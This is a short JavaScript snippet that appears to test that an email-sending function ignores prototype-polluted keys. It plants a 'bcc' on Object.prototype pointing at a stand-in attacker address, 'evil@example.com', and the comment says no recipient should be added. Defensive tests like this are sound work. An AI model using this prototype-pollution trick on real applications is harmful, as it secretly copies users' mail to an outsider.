// why: keys on prototypes are not read, so nothing adds a recipient
// mail: a@example.com | x
Object.prototype.bcc = "evil@example.com";
sendEmail({ to: "a@example.com", subject: "x" });
